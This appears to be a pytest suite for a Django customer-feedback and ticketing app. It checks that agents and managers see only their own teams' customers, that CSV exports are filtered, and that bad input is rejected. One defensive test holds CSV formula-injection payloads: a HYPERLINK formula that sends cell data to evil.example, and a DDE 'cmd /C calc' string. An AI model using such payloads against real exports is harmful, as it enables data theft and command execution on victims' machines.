"""Customer data stays within the teams that handle the customer (docs: "Who sees what")."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from rest_framework.test import APIClient

from intake.services import CustomerData
from tests import factories

pytestmark = pytest.mark.django_db


def _role(user, role):
    user.groups.add(Group.objects.get_or_create(name=role)[0])
    return user


def _api(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body[1:])))


def test_response_list_shows_an_agent_only_their_teams_customers(desk):
    _role(desk.agent, "agent")
    orphan = factories.ResponseFactory(survey=desk.survey, score=9)  # no ticket, no team
    other_customer = desk.other_ticket.customer
    api = _api(desk.agent)
    listed = api.get("/api/v1/responses/", {"page_size": 200}).json()
    ids = {r["id"] for r in listed["results"]}
    mine = {t.origin_response_id for t in desk.tickets}
    assert ids == mine
    assert listed["count"] == 3
    assert orphan.pk not in ids
    foreign = api.get("/api/v1/responses/", {"customer": other_customer.pk}).json()
    assert foreign["count"] == 0
    admin = factories.UserFactory(username="root", is_superuser=True)
    assert _api(admin).get("/api/v1/responses/").json()["count"] == 5


def test_answer_without_ticket_is_seen_by_the_team_handling_that_customer(desk):
    _role(desk.other_agent, "agent")
    customer = desk.other_ticket.customer
    promoter = factories.ResponseFactory(survey=desk.survey, customer=customer, score=10)
    ids = {r["id"] for r in _api(desk.other_agent).get("/api/v1/responses/").json()["results"]}
    assert ids == {desk.other_ticket.origin_response_id, promoter.pk}


def test_source_key_cannot_read_responses(desk, api, source_key):
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {source_key}")
    assert api.get("/api/v1/responses/").status_code in (401, 403)


def test_responses_csv_holds_only_the_managers_teams_and_the_team_filter(manager_client, desk):
    rows = _csv(manager_client.get("/export/responses.csv"))
    emails = {r[rows[0].index("email")] for r in rows[1:]}
    assert emails == {t.customer.email for t in desk.tickets}
    assert desk.other_ticket.customer.email not in emails
    assert manager_client.get("/export/responses.csv", {"team": desk.team_b.pk}).status_code == 400
    rows = _csv(manager_client.get("/export/responses.csv", {"team": desk.team_a.pk}))
    assert len(rows) == 1 + 3


def test_responses_csv_rejects_bad_filters_with_400(manager_client, desk):
    for params in ({"survey": "a\x00"}, {"segment": "x\x00"}, {"days": "2"}, {"survey": "²"}):
        assert manager_client.get("/export/responses.csv", params).status_code == 400, params


def test_csv_cells_that_start_a_formula_are_neutralised(manager_client, desk):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    ticket = desk.open_ticket(name=evil, comment="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = _csv(manager_client.get("/export/responses.csv"))
    row = next(r for r in rows if r[0] == str(ticket.origin_response_id))
    assert row[rows[0].index("customer")] == "'" + evil
    assert row[rows[0].index("comment")].startswith("'@SUM")
    assert row[rows[0].index("score")] == "3"
    rows = _csv(manager_client.get("/export/tickets.csv?view=all"))
    row = next(r for r in rows if r[0] == str(ticket.pk))
    assert row[rows[0].index("customer")] == "'" + evil


def test_ticket_page_hides_the_customers_cases_of_other_teams(agent_client, desk):
    ticket = desk.tickets[0]
    customer = ticket.customer
    from tickets.models import Status, Ticket

    Ticket.objects.filter(pk=ticket.pk).update(status=Status.CLOSED)
    secret = "Secret remark meant for the SMB desk only"
    foreign = factories.ingest(
        desk.survey,
        desk.source,
        comment=secret,
        customer=CustomerData(
            external_id=customer.external_id,
            email=customer.email,
            attributes={"segment": "smb"},
        ),
    ).response.ticket
    assert foreign.team_id == desk.team_b.pk
    html = agent_client.get(f"/tickets/{ticket.pk}/").content.decode()
    assert secret not in html
    assert f"/tickets/{foreign.pk}/" not in html
    assert "1 more answer belongs to another team" in html
    assert "1 more ticket is handled by another team" in html
